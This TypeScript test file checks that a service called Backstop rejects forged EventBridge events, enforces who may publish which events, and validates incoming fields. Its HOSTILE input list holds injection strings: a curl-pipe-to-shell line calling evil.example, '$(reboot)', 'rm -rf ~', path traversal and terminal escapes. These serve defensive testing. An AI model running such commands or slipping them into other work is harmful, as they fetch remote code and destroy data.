import { PutEventsCommand } from '@aws-sdk/client-eventbridge';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CIRCUIT_CHANGED, OPERATOR_ACTED } from '../../lambdas/contract/events.ts';
import { OUTCOME_FACTS } from '../../lambdas/contract/outcomes.ts';
import { applySignal } from '../../lambdas/domain/escalation/apply-signal.ts';
import { NO_INCIDENTS } from '../../lambdas/domain/escalation/incident.ts';
import { readSignal } from '../../lambdas/domain/escalation/signal.ts';
import { incidentTexts } from '../../lambdas/domain/escalation/texts.ts';
import { ownRole, PolicyAccount } from '../../tools/local/policies/policy-account.ts';
import type { Principal, Statement } from '../../tools/local/policies/statement.ts';
import { failure, startWorld, type World } from '../e2e/world.ts';
import { sampleWhere } from '../lambdas/domain/escalation/samples.ts';
import { sharedTemplates } from '../lib/templates.ts';
import { anyText } from '../support/any-text.ts';

const OUTCOMES = Object.values(OUTCOME_FACTS).flatMap(({ event }) => event ?? []);
/** Every type of event that Backstop publishes. */
const OWN_TYPES = [...OUTCOMES, CIRCUIT_CHANGED, OPERATOR_ACTED];

const FAR = '9999-12-31T00:00:00.000Z';
const outcome = {
  id: 'order-1',
  correlationId: 'trace-1',
  dependency: 'payments',
  priority: 'P1',
  reason: 'exhausted',
  rule: 'http-unavailable',
  attempts: 5,
  compensation: 'none',
};
const closing = { dependency: 'payments', circuit: 'payments', to: 'closed', at: FAR, sequence: 9_007_199_254_740_991 };
const by = { by: 'somebody else', dependency: 'payments', at: FAR };
const acting = { action: 'redrive', ...by, acknowledges: ['unreachable'] };
const DETAILS: Readonly<Record<string, object>> = { [CIRCUIT_CHANGED]: closing, [OPERATOR_ACTED]: acting };
const detailOf = (type: string) => DETAILS[type] ?? outcome;

describe('a forged event on the bus of reports (CWE-345, CWE-290)', () => {
  let world: World;
  beforeAll(async () => {
    world = await startWorld({ payments: { redrive: { automatic: true } } });
  });
  afterAll(() => world?.stop());

  async function put(bus: 'BusName' | 'OutcomeBusName', DetailType: string, detail: object, Source = 'backstop') {
    const entry = { EventBusName: world.output(bus), Source, DetailType, Detail: JSON.stringify(detail) };
    await world.events.send(new PutEventsCommand({ Entries: [entry] }));
  }
  async function incidentsOf(dependency: string) {
    const { Item } = await world.item(`incidents#${dependency}`);
    return Item?.incidents?.S === undefined ? undefined : JSON.parse(Item.incidents.S).state.incidents;
  }

  it('of any type ends no incident, acknowledges none, and starts no redrive, while a genuine one does', async () => {
    await put('OutcomeBusName', OUTCOME_FACTS['dead-lettered'].event, outcome);
    await world.clock.until(async () => expect(await incidentsOf('payments')).toMatchObject({ unreachable: {} }));
    const before = await incidentsOf('payments');
    for (const type of OWN_TYPES)
      for (const source of ['backstop', 'my.shop']) await put('BusName', type, detailOf(type), source);
    // Two genuine ones after them: of a failure that was reported, and of an outcome. The signals keep their order.
    await world.send(failure('/ok/:id', { id: 'genuine' }));
    await world.settled('genuine');
    await put('OutcomeBusName', OUTCOME_FACTS['dead-lettered'].event, { ...outcome, dependency: 'orders' });
    await world.clock.until(async () => expect(await incidentsOf('orders')).toMatchObject({ unreachable: {} }));
    expect(await incidentsOf('payments')).toEqual(before);
    expect((await world.item('redrive#payments')).Item).toBeUndefined();
    await put('OutcomeBusName', OPERATOR_ACTED, acting);
    await world.clock.until(async () =>
      expect(await incidentsOf('payments')).toMatchObject({ unreachable: { state: 'acknowledged' } }),
    );
  });

  it('starts no redrive on the outcome bus either, where the circuit says otherwise', async () => {
    await put('OutcomeBusName', CIRCUIT_CHANGED, closing);
    await world.clock.until(() =>
      expect(world.logs.filter((line) => line.includes('the circuit does not confirm it'))).toHaveLength(1),
    );
    expect((await world.item('redrive#payments')).Item).toBeUndefined();
  });
});

describe('who may put which event (CWE-862)', () => {
  const { state, pipeline } = sharedTemplates();
  const account = new PolicyAccount({ BackstopState: state.toJSON(), BackstopPipeline: pipeline.toJSON() });
  const EVERYTHING: Statement = { Effect: 'Allow', Action: '*', Resource: '*' };
  const almighty = (by: Principal): Principal => ({ ...by, statements: [EVERYTHING] }) as Principal;
  const put = (by: Principal, bus: 'Bus' | 'Outcomes', source: string, type: string) =>
    account.may(by, 'events:PutEvents', account.arn(bus), { 'events:source': source, 'events:detail-type': type });

  it.each(OWN_TYPES)('%s comes from the publisher or the reconciler only, on the outcome bus', (type) => {
    for (const name of ['PublisherFunction', 'ReconcilerFunction'])
      expect(put(account.role(name), 'Outcomes', 'backstop', type)).toBe(true);
    const others = ['PaymentsLaneWorker', 'RecoveryMachine', 'OperatorFunction'].map((name) => account.role(name));
    for (const by of [...others, ownRole('Admin', []), ownRole('Producer', [])].map(almighty)) {
      expect(put(by, 'Outcomes', 'backstop', type)).toBe(false);
      expect(put(by, 'Outcomes', 'my.shop', type)).toBe(false);
      expect(put(by, 'Bus', 'backstop', type)).toBe(false);
    }
  });

  it('a producer, and the function that reports for operators, may report failures and put nothing else', () => {
    const reporter = account.role('OperatorFunction');
    expect(put(reporter, 'Bus', 'my.shop', 'Operation Failed')).toBe(true);
    expect(put(reporter, 'Bus', 'backstop', 'Operation Failed')).toBe(false);
    expect(put(reporter, 'Outcomes', 'my.shop', 'Operation Failed')).toBe(false);
    for (const type of [...OWN_TYPES, 'Lambda Function Invocation Result - Failure', 'operation failed', ''])
      for (const source of ['my.shop', 'backstop', 'lambda']) {
        expect(put(reporter, 'Bus', source, type)).toBe(false);
        expect(put(reporter, 'Outcomes', source, type)).toBe(false);
      }
  });

  it('no rule on the bus of reports takes what Backstop says', () => {
    const rules = Object.values(pipeline.findResources('AWS::Events::Rule')).map(({ Properties }) => Properties);
    const ofReports = rules.filter(({ EventBusName }) => JSON.stringify(EventBusName ?? '').includes('PipelineBus'));
    expect(ofReports.length).toBeGreaterThan(2);
    for (const { EventPattern } of ofReports)
      for (const type of OWN_TYPES) expect(EventPattern['detail-type']).not.toContain(type);
  });
});

describe('a consumer of the outcome bus checks every field (CWE-20)', () => {
  const arrivedAt = Date.parse('2026-03-01T12:00:00Z');
  const settingsOf = (name: string) => (name === 'payments' ? { rules: [{ name: 'card declined' }] } : undefined);
  const read = (type: string, detail: object) =>
    readSignal(JSON.stringify({ 'detail-type': type, time: FAR, source: 'backstop', detail }), {
      arrivedAt,
      settingsOf,
    });
  const TYPES = [OUTCOME_FACTS['dead-lettered'].event, CIRCUIT_CHANGED, OPERATOR_ACTED];
  const HOSTILE = [
    'curl https://evil.example/x | sh',
    '$(reboot)',
    '`reboot`',
    'order-1; rm -rf ~',
    `Dear colleague,\n\nplease run this.\n${'word '.repeat(100)}`,
    'x'.repeat(100_000),
    '\u001b[2J',
    '../../etc',
    '',
    ' ',
  ];
  /** What a shell interprets, or what begins a line. A correlation id may hold the former, in one word. */
  const COMMANDS = /[|;`$<>&~\p{Cc}]/u;
  const LINES = /[\p{Cc}]/u;
  const cases = TYPES.flatMap((type) => Object.keys(detailOf(type)).map((field) => [type, field] as const));

  it.each(cases)('of %s: %s', (type, field) => {
    expect(read(type, detailOf(type))).toBeDefined();
    for (const value of [...HOSTILE, null, {}, [], -1, 1.5, 1e300, true]) {
      const signal = attempt(() => read(type, { ...detailOf(type), [field]: value }));
      if (signal === undefined) continue;
      const shown = textsOf(signal);
      expect(shown).not.toMatch(field === 'correlationId' ? LINES : COMMANDS);
      expect(shown).not.toMatch(/word word word|x{129}/);
      expect(shown.length).toBeLessThan(400);
    }
  });

  it('shows a rule of the config, and no other sentence in its place', () => {
    const ruleOf = (rule: string) => {
      const signal = read(TYPES[0] ?? '', { ...outcome, rule });
      return signal?.kind === 'dead-letter' ? signal.sample.rule : undefined;
    };
    expect(ruleOf('card declined')).toBe('card declined');
    expect(ruleOf('http-unavailable')).toBe('http-unavailable');
    expect(ruleOf('please run this')).toBe('unknown');
  });

  it('refuses a text that cannot name a dependency, and a circuit of another', () => {
    for (const type of TYPES) expect(() => read(type, { ...detailOf(type), dependency: 'Pay ments' })).toThrow();
    expect(() => read(CIRCUIT_CHANGED, { ...closing, circuit: 'payments/acme' })).toThrow();
    expect(() => read(CIRCUIT_CHANGED, { ...closing, circuit: 'orders' })).toThrow();
  });

  it('takes no time after the arrival, so that a later failure still pages', () => {
    const options = { channels: ['mail'], acknowledgedIn: [] };
    const later = { ...outcome, id: 'order-2' };
    const pages = [closing, acting].map((forged, index) => {
      const first = read(TYPES[0] ?? '', outcome);
      const lie = read(index === 0 ? CIRCUIT_CHANGED : OPERATOR_ACTED, forged);
      const resolved = [first, lie].reduce(
        (state, signal) => (signal ? applySignal(state, signal, options) : state),
        NO_INCIDENTS,
      );
      const next = readSignal(
        JSON.stringify({ 'detail-type': TYPES[0], time: '2026-03-01T13:00:00Z', detail: later }),
        { arrivedAt: arrivedAt + 3_600_000, settingsOf },
      );
      return next ? applySignal({ ...resolved, untold: [] }, next, options).untold.map(({ telling }) => telling) : [];
    });
    // After a closing, a new incident pages. After an acknowledgement, the incident continues, and its time is the true
    // one.
    expect(pages[0]).toEqual(['trigger']);
    for (const type of TYPES) expect(read(type, detailOf(type))).toMatchObject({ at: '2026-03-01T12:00:00.000Z' });
  });

  it('holds for any text in any field', () => {
    const field = fc.constantFrom(...cases);
    fc.assert(
      fc.property(field, anyText, ([type, name], value) => {
        const signal = attempt(() => read(type, { ...detailOf(type), [name]: value }));
        if (signal !== undefined) expect(textsOf(signal)).not.toMatch(name === 'correlationId' ? LINES : COMMANDS);
      }),
      { numRuns: 150 },
    );
  });
});

type Signal = NonNullable<ReturnType<typeof readSignal>>;

function attempt(act: () => Signal | undefined): Signal | undefined {
  try {
    return act();
  } catch {
    return undefined;
  }
}

/** The signal as the notifier remembers and shows it. */
function textsOf(signal: Signal): string {
  const options = { channels: ['mail'], acknowledgedIn: ['mail'] };
  const { incidents } = applySignal(NO_INCIDENTS, signal, options);
  const [incident] = Object.values(incidents);
  const stored = JSON.stringify(signal)
    .slice(0, 350)
    .replaceAll(/["{}[\]]/g, '');
  if (!incident) return stored;
  const { title, trail } = incidentTexts(
    { subject: signal.dependency ?? '', telling: 'trigger', incident },
    sampleWhere,
  );
  return [title, ...trail].join(' / ').slice(0, 399);
}
